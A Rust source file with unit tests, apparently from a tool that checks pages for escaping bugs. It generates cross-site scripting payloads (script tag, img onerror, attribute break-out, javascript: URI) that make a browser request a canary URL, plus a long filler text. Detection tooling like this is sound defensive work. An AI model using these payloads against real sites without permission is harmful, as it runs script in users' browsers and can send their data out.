//! Text that does harm if it is shown unescaped.

/// Long enough to break a page, and short enough for the URL limit of every server.
const LONG_TEXT: usize = 4_000;

/// A text that visits `canary` from the page that shows it unescaped.
pub(crate) fn payload(kind: &str, canary: &str) -> String {
    let visit = format!("new Image().src='{canary}?{kind}'");
    match kind {
        "script" => format!("<script>{visit}</script>"),
        "img-onerror" => format!("<img src=x onerror=\"{visit}\">"),
        "attr-break" => format!("\" autofocus tabindex=0 onfocus=\"{visit}\" x=\""),
        "javascript-uri" => format!("javascript:void({visit})"),
        _ => "Lorem ipsum ".chars().cycle().take(LONG_TEXT).collect(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_payload_but_the_long_one_names_the_canary_and_its_kind() {
        for kind in ["script", "img-onerror", "attr-break", "javascript-uri"] {
            let text = payload(kind, "http://127.0.0.1:9400/canary");
            assert!(text.contains(&format!("'http://127.0.0.1:9400/canary?{kind}'")), "{text}");
        }
        assert_eq!(payload("long-text", "").len(), LONG_TEXT);
    }
}
